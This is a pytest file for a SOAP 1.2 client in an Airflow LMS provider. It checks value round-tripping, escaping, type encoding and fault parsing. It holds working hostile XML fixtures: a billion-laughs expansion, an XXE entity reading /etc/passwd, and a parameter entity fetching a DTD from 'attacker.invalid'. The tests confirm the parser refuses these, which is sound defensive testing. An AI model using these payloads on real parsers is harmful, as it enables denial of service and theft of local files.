"""SOAP 1.2 envelopes and the hardened parser: values go out and come back unchanged; hostile XML is refused."""

from __future__ import annotations

from datetime import date, datetime, timezone

import pytest

from airflow_provider_lms.http.errors import LmsInputError
from airflow_provider_lms.sandbox.pynter.views import xml_element as _xml
from airflow_provider_lms.soap import (
    SOAP12_NS,
    TEMPURI_NS,
    SoapFault,
    UnsafeXmlError,
    as_list,
    build_envelope,
    element_to_python,
    local_name,
    parse_answer,
    parse_xml,
)

NASTY = [
    "a < b && c > d",
    "]]>",
    "<![CDATA[x]]>",
    "&amp; &lt; &#x41; &unknown;",
    "Ĳsselmeer café naïve — 日本語 🎓 ✓",
    "  leading and trailing  ",
    "line\nbreak\r\nand\rcarriage\ttab",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>&a;',
    "'single' \"double\"",
]


def _answer_echoing(envelope: bytes) -> bytes:
    """A Pynter answer whose Contents holds the request's parameters exactly as the server read them."""
    method_el = parse_xml(envelope).find(f"{{{SOAP12_NS}}}Body")[0]  # type: ignore[index]
    # Written back with the sandbox's own serializer, as the Pynter double answers.
    inner = "".join(_xml(local_name(c.tag), element_to_python(c)) for c in list(method_el)[2:]).encode()
    return (
        (
            f'<soap:Envelope xmlns:soap="{SOAP12_NS}"><soap:Body><EchoResponse xmlns="{TEMPURI_NS}"><EchoResult>'
            "<Success>true</Success><Contents>"
        ).encode()
        + inner
        + b"</Contents><Error /></EchoResult></EchoResponse></soap:Body></soap:Envelope>"
    )


@pytest.mark.parametrize("value", NASTY)
def test_any_value_goes_through_the_envelope_and_back_unchanged(value: str):
    envelope = build_envelope("Echo", "user", "pw", {"text": value, "record": {"Name": value}})
    # The server side reads it back exactly ...
    method_el = parse_xml(envelope).find(f"{{{SOAP12_NS}}}Body")[0]  # type: ignore[index]
    params = element_to_python(method_el)
    assert params["text"] == value and params["record"] == {"Name": value}
    # ... and an answer carrying it is read back exactly by the client.
    answer = parse_answer(_answer_echoing(envelope), method="Echo")
    assert answer.success is True
    assert answer.contents == {"text": value, "record": {"Name": value}}


@pytest.mark.parametrize("value", NASTY)
def test_credentials_are_escaped_too(value: str):
    envelope = build_envelope("GetCatalog", value, value)
    method_el = parse_xml(envelope).find(f"{{{SOAP12_NS}}}Body")[0]  # type: ignore[index]
    assert [c.text for c in method_el[:2]] == [value, value]


def test_credentials_come_first_then_the_parameters_in_order():
    envelope = build_envelope("Qualifications", "u", "p", [("externalId", "E1"), ("codes", ["A", "B"])])
    root = parse_xml(envelope)
    assert root.tag == f"{{{SOAP12_NS}}}Envelope"
    method_el = root.find(f"{{{SOAP12_NS}}}Body")[0]  # type: ignore[index]
    assert method_el.tag == f"{{{TEMPURI_NS}}}Qualifications"
    assert [c.tag.split("}")[1] for c in method_el] == ["username", "password", "externalId", "codes"]
    assert [c.text for c in method_el.find(f"{{{TEMPURI_NS}}}codes")] == ["A", "B"]  # type: ignore[union-attr]


def test_booleans_and_datetimes_are_typed_the_way_pynter_expects():
    aware = datetime(2026, 1, 15, 9, 30, 5, 123456, tzinfo=timezone.utc)
    text = build_envelope("M", "u", "p", {"Blocked": False, "On": True, "At": aware, "Day": date(2026, 2, 1)}).decode()
    assert '<Blocked xsi:type="xsd:boolean">false</Blocked>' in text
    assert '<On xsi:type="xsd:boolean">true</On>' in text
    # Aware times are sent in Pynter's local (Dutch) time, without zone or fraction.
    assert '<At xsi:type="xsd:dateTime">2026-01-15T10:30:05</At>' in text
    assert '<Day xsi:type="xsd:dateTime">2026-02-01T00:00:00</Day>' in text
    assert f'xmlns:soap12="{SOAP12_NS}"' in text


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"x": "bell\x07"}, "x"),
        ({"x": "nul\x00"}, "x"),
        ({"bad name": 1}, "bad name"),
        ({"username": "sneaky"}, "username"),
        ({"x": object()}, "x"),
        ({"x": float("nan")}, "x"),
    ],
)
def test_values_xml_cannot_carry_are_refused_before_sending(params, field):
    with pytest.raises(LmsInputError) as err:
        build_envelope("M", "u", "p", params)
    assert err.value.field == field


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>
<QualificationsResponse xmlns="http://tempuri.org/"><QualificationsResult><Success>true</Success>
<Contents>&lol4;</Contents></QualificationsResult></QualificationsResponse></soap:Body></soap:Envelope>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>
<QualificationsResponse xmlns="http://tempuri.org/"><QualificationsResult><Success>true</Success>
<Contents>&xxe;</Contents></QualificationsResult></QualificationsResponse></soap:Body></soap:Envelope>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body/></soap:Envelope>"""


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY], ids=["expansion", "xxe", "pe"])
def test_entity_payloads_are_rejected_without_being_expanded(payload: bytes, monkeypatch: pytest.MonkeyPatch):
    # Any attempt to open a file or a URL would be an external entity being resolved.
    import builtins
    import urllib.request

    def forbidden(*args, **kwargs):
        raise AssertionError("the parser tried to resolve an entity")

    monkeypatch.setattr(urllib.request, "urlopen", forbidden)
    real_open = builtins.open
    monkeypatch.setattr(
        builtins, "open", lambda f, *a, **k: forbidden() if str(f) == "/etc/passwd" else real_open(f, *a, **k)
    )
    with pytest.raises(UnsafeXmlError) as err:
        parse_answer(payload, method="Qualifications")
    assert "lol" not in str(err.value) and "root:" not in str(err.value)
    assert err.value.retryable is False


def test_malformed_xml_is_a_value_error_so_the_core_treats_it_as_a_malformed_answer():
    with pytest.raises(ValueError):
        parse_answer(b"<soap:Envelope xmlns:soap='http://www.w3.org/2003/05/soap-envelope'><soap:Bo")
    with pytest.raises(ValueError):
        parse_answer(b"<html><body>maintenance</body></html>")


def test_a_fault_is_read_with_its_code_and_reason():
    fault = (
        f'<soap:Envelope xmlns:soap="{SOAP12_NS}"><soap:Body><soap:Fault><soap:Code><soap:Value>soap:Sender'
        "</soap:Value></soap:Code><soap:Reason><soap:Text xml:lang='en'>Bad &lt;input&gt;</soap:Text></soap:Reason>"
        "</soap:Fault></soap:Body></soap:Envelope>"
    ).encode()
    with pytest.raises(SoapFault) as err:
        parse_answer(fault)
    assert err.value.code == "soap:Sender" and err.value.platform_message == "Bad <input>"


def test_list_answers_are_lists_whatever_their_length():
    assert as_list("") == [] and as_list(None) == []
    assert as_list({"Row": {"a": "1"}}) == [{"a": "1"}]
    assert as_list({"Row": [{"a": "1"}, {"a": "2"}]}) == [{"a": "1"}, {"a": "2"}]
